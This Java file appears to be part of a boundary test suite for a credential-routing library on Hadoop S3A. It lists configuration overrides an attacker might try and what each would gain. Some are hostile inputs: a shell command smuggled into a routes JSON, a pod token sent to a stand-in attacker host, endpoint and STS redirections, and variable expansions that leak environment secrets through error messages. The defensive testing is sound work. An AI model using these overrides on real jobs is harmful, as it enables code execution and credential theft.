package io.rolecall.boundary;

import static io.rolecall.boundary.Attack.with;

import io.rolecall.support.RoutesJson;
import java.util.List;
import java.util.stream.Stream;

/** Keys, and what each would gain. {@link KnownKeys} has all others. */
final class AttackTable {

  private static final String ROUTES = "fs.s3a.rolecall.routes";
  private static final String INSIDE = "s3a://{bucket}/inside/honest.txt";

  private AttackTable() {}

  static List<Attack> all() {
    return Stream.of(rolecalls(), roles(), endpoints(), signers(), contents(), spellings())
        .flatMap(List::stream)
        .toList();
  }

  /** Rolecall's own keys. */
  private static List<Attack> rolecalls() {
    return List.of(
        with(ROUTES, byCommand(), "runs a program as the driver's user")
            .hidden()
            .reading(INSIDE)
            .choosable(),
        with(ROUTES, byPodToken(), "sends the pod's token to the attacker")
            .hidden()
            .reading(INSIDE)
            .choosable(),
        routing(
                route("s3a://{bucket}/inside").field("stsEndpoint", "http://{attacker}"),
                "sends the base identity's signature to the attacker")
            .hidden()
            .reading(INSIDE)
            .choosable(),
        routing(route("s3a://{vault}"), "assumes a role that nobody declared")
            .hidden()
            .readingTheVault()
            .choosable(),
        routing(new RoutesJson().base("s3a://{vault}"), "signs with the base identity itself")
            .hidden()
            .readingTheVault()
            .choosable(),
        routing(route("s3a://{bucket}/inside"), "assumes another role for a prefix")
            .hidden()
            .reading(INSIDE)
            .choosable(),
        with("fs.s3a.rolecall.routes.file", "{local-file}", "reads a file of the driver's machine")
            .hidden(),
        with(
                "fs.s3a.rolecall.routes.file",
                "http://{attacker}/routes.json",
                "lets the driver call the attacker")
            .hidden(),
        with(
            "fs.s3a.rolecall.base.identity",
            "properties:{local-file}",
            "reads a file of the driver's machine"),
        with("fs.s3a.rolecall.base.identity", "profile:admin", "another profile of the driver's"),
        with(
            "fs.s3a.rolecall.base.identity",
            "instance-profile",
            "the identity of the machine instead of the job's"),
        with("fs.s3a.rolecall.process", "executor", "the driver takes itself for an executor"),
        with("fs.s3a.rolecall.process", "driver", "an executor that mints by itself"),
        with("fs.s3a.rolecall.declaration", "open", "reopens what was declared"),
        with("fs.s3a.rolecall.job.id", "application_of_alice", "another's name in audit logs")
            .choosable(),
        with("fs.s3a.rolecall.source.identity", "alice", "another's name in audit logs")
            .choosable(),
        with("fs.s3a.rolecall.session.tags", "team=admins", "tags that policies look at")
            .choosable());
  }

  /** S3A's keys of the role. */
  private static List<Attack> roles() {
    return List.of(
        with(
                "fs.s3a.bucket.{bucket}.assumed.role.arn",
                Accounts.VAULT_ROLE,
                "assumes a role that nobody declared")
            .choosable(),
        with(
                "fs.s3a.bucket.{vault}.assumed.role.arn",
                Accounts.VAULT_ROLE,
                "assumes a role that nobody declared")
            .readingTheVault()
            .choosable(),
        with("fs.s3a.assumed.role.arn", Accounts.VAULT_ROLE, "assumes a role that nobody declared")
            .readingTheVault()
            .choosable(),
        with(
            "fs.s3a.assumed.role.sts.endpoint",
            "http://{attacker}",
            "the base identity's calls go to the attacker"),
        with("fs.s3a.assumed.role.sts.endpoint.region", "eu-west-1", "signs for another Region"),
        with("fs.s3a.assumed.role.external.id", "known", "another tenant's external id")
            .hidden()
            .choosable(),
        with("fs.s3a.assumed.role.session.name", "alice", "another's name in audit logs")
            .choosable(),
        with("fs.s3a.assumed.role.session.duration", "12h", "sessions that outlive the job")
            .choosable(),
        with("fs.s3a.assumed.role.policy", "{}", "another session policy").hidden().choosable(),
        with(
            "fs.s3a.assumed.role.credentials.provider",
            "org.apache.hadoop.fs.s3a.AnonymousAWSCredentialsProvider",
            "another identity calls STS"));
  }

  /** Where requests go. */
  private static List<Attack> endpoints() {
    return List.of(
        with(
            "fs.s3a.bucket.{bucket}.endpoint",
            "http://{attacker}",
            "requests and sessions go to the attacker, who serves forged files"),
        with("fs.s3a.endpoint", "http://{attacker}", "requests and sessions go to the attacker"),
        with("fs.s3a.proxy.host", "{attacker-host}", "requests pass through the attacker")
            .more(1)
            .and("fs.s3a.proxy.port", "{attacker-port}"),
        with("fs.s3a.endpoint.region", "eu-west-1", "signatures for another Region"),
        with("fs.s3a.endpoint.fips", "true", "another endpoint"),
        with("fs.s3a.path.style.access", "false", "another host"),
        with("fs.s3a.connection.ssl.enabled", "true", "another scheme"),
        with("fs.s3a.cross.region.access.enabled", "false", "another host"),
        with(
            "fs.s3a.bucket.{bucket}.accesspoint.arn",
            "arn:aws:s3:us-east-1:222222222222:accesspoint/of-the-attacker",
            "another bucket's content under this one's name"));
  }

  /** Who signs. */
  private static List<Attack> signers() {
    return List.of(
        // Executors, who have no identity, do not look at it.
        with("fs.s3a.access.key", "AKIAATTACKER00000000", "requests in the attacker's account")
            .and("fs.s3a.secret.key", "attackers-secret")
            .gainingNothing(),
        with(
            "fs.s3a.aws.credentials.provider",
            "org.apache.hadoop.fs.s3a.AnonymousAWSCredentialsProvider",
            "another identity signs"),
        with(
            "hadoop.security.credential.provider.path",
            "{jceks}",
            "secrets come from the attacker's file"),
        with(
                "fs.s3a.security.credential.provider.path",
                "{jceks}",
                "secrets come from the attacker's file")
            .more(1),
        with("fs.s3a.custom.signers", "Mine:org.example.Signer", "another class signs"),
        with("fs.s3a.signing-algorithm", "NoOpSignerType", "nothing is signed"),
        with("fs.s3a.s3.signing-algorithm", "NoOpSignerType", "nothing is signed"),
        with("fs.s3a.http.signer.class", "org.example.Signer", "another class signs"),
        with("fs.s3a.http.signer.enabled", "false", "S3A signs, without routes"),
        with(
            "fs.s3a.s3.client.factory.impl",
            "org.apache.hadoop.fs.s3a.DefaultS3ClientFactory",
            "expired sessions are not replaced"),
        with(
                "fs.s3a.delegation.token.binding",
                "org.apache.hadoop.fs.s3a.auth.delegation.FullCredentialsTokenBinding",
                "the base identity travels to executors")
            .hidden(),
        with("fs.s3a.classloader.isolation", "true", "other classes"),
        with("hadoop.security.group.mapping", "org.example.Everybody", "a user in other groups"),
        with(
                "hadoop.user.group.static.mapping.overrides",
                "root=" + Accounts.ADMINS,
                "the role of a group that the user is not of")
            .reading("s3a://" + Accounts.ADMINS + "/secret.txt")
            .withoutRoute());
  }

  /** What S3A does with content, files and classes. */
  private static List<Attack> contents() {
    return List.of(
        with("fs.s3a.encryption.algorithm", "SSE-KMS", "writes with the attacker's key")
            .more(1)
            .and("fs.s3a.encryption.key", "arn:aws:kms:us-east-1:666666666666:key/attackers"),
        with(
                "fs.s3a.server-side-encryption-algorithm",
                "SSE-KMS",
                "writes with the attacker's key, by the old name of the key")
            .naming(
                "fs.s3a.encryption.algorithm",
                "because fs.s3a.server-side-encryption-algorithm is deprecated")
            .more(1),
        with("fs.s3a.audit.service.classname", "org.example.Audit", "runs another class"),
        with("fs.s3a.audit.execution.interceptors", "org.example.Tap", "runs another class"),
        with("fs.s3a.buffer.dir", "{canary}", "writes to a folder of the attacker's choice"),
        with("fs.s3a.requester.pays.enabled", "true", "the operator's account pays"));
  }

  /** The same by other spellings. */
  private static List<Attack> spellings() {
    return List.of(
        with("attackers.host", "http://{attacker}", "a variable in the value of a key")
            .naming("fs.s3a.endpoint", "programmatically")
            .and("fs.s3a.endpoint", "${attackers.host}"),
        with("store.port", "{attacker-port}", "a variable that the operator's own value refers to")
            .naming("fs.s3a.endpoint", "Set by Spark from keys starting with 'spark.hadoop'"),
        // Executors leave it to each machine.
        with("hadoop.tmp.dir", "{canary}", "a variable that a default refers to").gainingNothing(),
        with(
            "fs.s3a.endpoint",
            "${env." + Application.SECRET_VARIABLE + "}",
            "reads the driver's environment out of the refusal"),
        with(
            "fs.s3a.endpoint",
            "${fs.s3a.bucket.elsewhere.secret.key}",
            "reads a declared secret out of the refusal"),
        // S3A repeats what it cannot read as a number.
        with(
                "fs.s3a.multipart.size",
                "${env." + Application.SECRET_VARIABLE + "}",
                "reads the driver's environment out of S3A's complaint")
            .and("fs.s3a.impl.disable.cache", "true")
            .gainingNothing(),
        with(
                "fs.s3a.bucket.{bucket}.readahead.range",
                "${fs.s3a.bucket.elsewhere.secret.key}",
                "reads a declared secret out of S3A's complaint")
            .and("fs.s3a.impl.disable.cache", "true")
            .gainingNothing(),
        with("fs.s3a.endpoint", "http://{attacker}", "a bucket of another name for Hadoop's cache")
            .reading("s3a://x@{bucket}/honest.txt"),
        with("FS.S3A.ENDPOINT", "http://{attacker}", "another case").gainingNothing(),
        with("spark.hadoop.fs.s3a.endpoint", "http://{attacker}", "Spark's name of a Hadoop key")
            .withoutEffect(),
        with("fs.s3a.bucket.elsewhere.endpoint", "http://{attacker}", "another bucket's key")
            .withoutEffect());
  }

  private static Attack routing(RoutesJson routes, String gain) {
    return with(ROUTES, routes.toString(), gain);
  }

  private static RoutesJson route(String location) {
    return new RoutesJson().role(location, Accounts.VAULT_ROLE);
  }

  private static String byCommand() {
    return by("\"kind\":\"saml\",\"assertionCommand\":[\"/bin/sh\",\"-c\",\"id > {canary}\"]", "");
  }

  private static String byPodToken() {
    return by(
        "\"kind\":\"web-identity\",\"tokenFile\":\"{local-file}\"",
        ",\"stsEndpoint\":\"http://{attacker}\"");
  }

  private static String by(String identity, String more) {
    return ("{\"version\":1,\"identities\":{\"me\":{%s}},\"routes\":[{\"location\":"
            + "\"s3a://{bucket}/inside\",\"role\":\"%s\",\"by\":\"me\"%s}]}")
        .formatted(identity, Accounts.TARGET_ROLE, more);
  }
}
